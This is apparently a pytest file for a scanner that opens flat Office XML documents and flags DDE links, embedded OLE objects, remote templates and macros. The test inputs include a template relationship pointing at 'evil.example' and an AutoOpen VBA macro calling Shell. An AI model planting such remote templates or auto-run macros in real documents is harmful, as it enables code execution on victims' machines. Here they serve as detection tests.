from __future__ import annotations

import base64

import pytest
from support.office import corpus, macro_file
from support.opened_file import all_text, found, opened, urls

from sekisho.parse.unpack.office.flat import open_flat_office


def test_other_xml_is_a_text_and_told_once():
    opening = opened(open_flat_office, b"<?xml version='1.0'?><a><t>x</t></a>")
    assert [text.text for text in opening.texts] == ["<?xml version='1.0'?><a><t>x</t></a>"]
    assert opening.findings == []


def test_excel_2003_of_the_corpus():
    assert found(opened(open_flat_office, corpus("msodde/dde-in-excel2003.xml"))) == {"dde": "high"}


@pytest.mark.parametrize("name", ["harmless-clean-2003.xml", "harmless-clean.xml"])
def test_harmless_of_the_corpus(name):
    opening = opened(open_flat_office, corpus(f"msodde/{name}"))
    assert found(opening) == {}
    assert "This is a harmless test document." in all_text(opening)


@pytest.mark.parametrize("name", ["embedded-simple-2007.xml", "embedded-simple-2007-as2003.xml"])
def test_files_inside_of_the_corpus(name):
    assert any(
        c.content[:4] == b"\xd0\xcf\x11\xe0" for c in opened(open_flat_office, corpus(f"oleobj/{name}")).children
    )


def test_the_objects_of_word_2003():
    """It keeps them deflated, one stream each, in a compound file of their own."""
    opening = opened(open_flat_office, corpus("oleobj/embedded-simple-2007-as2003.xml"))
    inside = next(c.content for c in opening.children if c.name.startswith("oledata.mso"))
    assert b"simple-text-file.txt" in inside


PACKAGE = """<?xml version="1.0"?><?mso-application progid="Word.Document"?>
<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">{}</pkg:package>"""


def test_a_template_from_the_network():
    relation = (
        '<Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    )
    opening = opened(open_flat_office, PACKAGE.format(relation).encode())
    assert found(opening) == {"remote-template": "high"}
    assert urls(opening) == ["https://evil.example/t.dotm"]


def test_macros():
    encoded = base64.b64encode(macro_file("Sub AutoOpen()\r\nShell x\r\nEnd Sub")).decode()
    part = f'<pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>{encoded}</pkg:binaryData></pkg:part>'
    assert found(opened(open_flat_office, PACKAGE.format(part).encode())) == {"macro-dangerous": "high"}
